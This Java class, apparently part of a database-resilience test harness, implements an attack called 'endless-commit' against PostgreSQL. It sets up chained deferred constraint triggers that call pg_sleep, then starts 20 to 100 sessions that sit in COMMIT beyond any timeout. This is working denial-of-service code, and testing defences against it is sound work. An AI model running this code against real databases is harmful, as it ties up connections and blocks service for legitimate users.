package dev.perdure.attacks.attack;

import dev.perdure.attacks.Attack;
import dev.perdure.attacks.stage.Attackers;
import java.sql.SQLException;

/** A3. No timeout of PostgreSQL ends a COMMIT: what it waits for is a deferred trigger that defers itself again. */
public final class EndlessCommit implements Attack {

    @Override
    public String name() {
        return "endless-commit";
    }

    @Override
    public String does() {
        return "has transactions of its steps sit in COMMIT";
    }

    @Override
    public String carryOut(Attackers attackers) throws SQLException {
        attackers.execute("CREATE TABLE late (n int); CREATE TABLE later (n int);"
                + " CREATE FUNCTION again() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_sleep(20); RETURN NULL; END $$;"
                + " CREATE FUNCTION once_more() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN"
                + " SET CONSTRAINTS ALL DEFERRED; INSERT INTO later VALUES (1); RETURN NULL; END $$;"
                + " CREATE CONSTRAINT TRIGGER a AFTER INSERT ON late DEFERRABLE INITIALLY DEFERRED FOR EACH ROW"
                + " EXECUTE FUNCTION once_more();"
                + " CREATE CONSTRAINT TRIGGER b AFTER INSERT ON later DEFERRABLE INITIALLY DEFERRED FOR EACH ROW"
                + " EXECUTE FUNCTION again()");
        int times = attackers.size(20, 100);
        attackers.start(times, "'INSERT INTO late VALUES (1)'");
        attackers.await("SELECT count(*) > 0 FROM pg_stat_activity WHERE usename = current_user AND state = 'active'"
                + " AND wait_event = 'PgSleep'");
        return times + " instances, "
                + attackers.value("SELECT count(*) FROM pg_stat_activity WHERE usename = current_user"
                        + " AND wait_event = 'PgSleep'")
                + " of them in COMMIT";
    }
}
